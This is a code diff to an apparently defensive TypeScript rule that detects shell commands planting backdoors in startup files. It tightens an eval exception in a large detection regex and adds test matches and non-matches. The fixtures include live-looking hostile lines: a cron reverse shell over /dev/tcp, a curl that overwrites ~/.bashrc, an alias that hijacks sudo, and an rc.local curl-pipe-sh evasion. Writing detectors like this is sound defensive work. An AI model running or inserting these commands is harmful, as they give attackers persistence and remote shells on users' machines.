@@ -26,7 +26,7 @@ function empties(effect: FileEffect): boolean {
 
 /** Text that fetches, decodes, hides or opens a way in when it is run later. */
 const EVIL =
-  /\b(curl|wget|fetch)\b[^\n]*\|\s*(sudo\s+)?\w*sh\b|\bbase64\s+(-d|-D|--decode)|\/dev\/(tcp|udp)\/|\b(nc|ncat|netcat|socat)\b[^\n]*\s(-\w*[ec]\b|EXEC)|\bbash\s+-i\b|\beval\s+["'`$]|\|\s*(ba|z|da)?sh\b|NOPASSWD|(^|[\s="'])\/(tmp|dev\/shm|var\/tmp)\/|\b(rm\s+-\w*r|mkfs|dd\s+if=)|\bLD_PRELOAD\b|\bPROMPT_COMMAND\b|HISTFILE|HISTSIZE=0|\balias\s+(sudo|su|ssh|git|ls|cd|rm|cat|passwd|npm|pip)=|\b(sudo|ssh|su|git|ls|cd)\s*\(\)|\bpython[\d.]*\s+-c\b[^\n]*(socket|exec|b64)|\bchmod\s+[0-7]?[4-7][0-7]{3}\b|\bsetfacl\b|\btrap\b[^\n]*DEBUG|\bProxyCommand\b|\bLocalCommand\b/;
+  /\b(curl|wget|fetch)\b[^\n]*\|\s*(sudo\s+)?\w*sh\b|\bbase64\s+(-d|-D|--decode)|\/dev\/(tcp|udp)\/|\b(nc|ncat|netcat|socat)\b[^\n]*\s(-\w*[ec]\b|EXEC)|\bbash\s+-i\b|\beval\s+(?!"?\$\((?:\/?[\w.-]+\/)*(?!(?:curl|wget|base64|echo|printf|cat|tac|xxd|openssl|python|perl|ruby|node|dig|nc|gunzip|zcat|tr|rev)\b|\w*sh\b)[\w.-]+(?: [\w.=@:/-]+)*\)"?)["'`$]|\|\s*(ba|z|da)?sh\b|NOPASSWD|(^|[\s="'])\/(tmp|dev\/shm|var\/tmp)\/|\b(rm\s+-\w*r|mkfs|dd\s+if=)|\bLD_PRELOAD\b|\bPROMPT_COMMAND\b|HISTFILE|HISTSIZE=0|\balias\s+(sudo|su|ssh|git|ls|cd|rm|cat|passwd|npm|pip)=|\b(sudo|ssh|su|git|ls|cd)\s*\(\)|\bpython[\d.]*\s+-c\b[^\n]*(socket|exec|b64)|\bchmod\s+[0-7]?[4-7][0-7]{3}\b|\bsetfacl\b|\btrap\b[^\n]*DEBUG|\bProxyCommand\b|\bLocalCommand\b/;
 
 /** What is written is known to do harm when it runs, or comes unread from elsewhere. */
 function isHidden(effect: FileEffect): boolean {
@@ -236,10 +236,12 @@ export const rules = [
       "echo '* * * * * root bash -i >& /dev/tcp/192.0.2.70/443 0>&1' | sudo tee /etc/cron.d/logrotate2",
       "curl -fsS https://cdn.example.com/a -o ~/.bashrc",
       "echo \"alias sudo='/tmp/.s'\" | tee -a ~/.profile",
+      "echo 'eval \"$(cat ~/.cache/x)\"' >> ~/.bashrc",
     ],
     nonMatches: [
       "echo 'curl -fsS https://cdn.example.com/p | sh &' >> /tmp/zshrc.sample",
       "echo 'export EDITOR=vim' >> ~/.zshrc",
+      "echo 'eval \"$(starship init zsh)\"' >> ~/.zshrc",
     ],
     evasions: [
       "sudo sed -i '1a curl -s https://cdn.example.com/r | sh' /etc/rc.local",
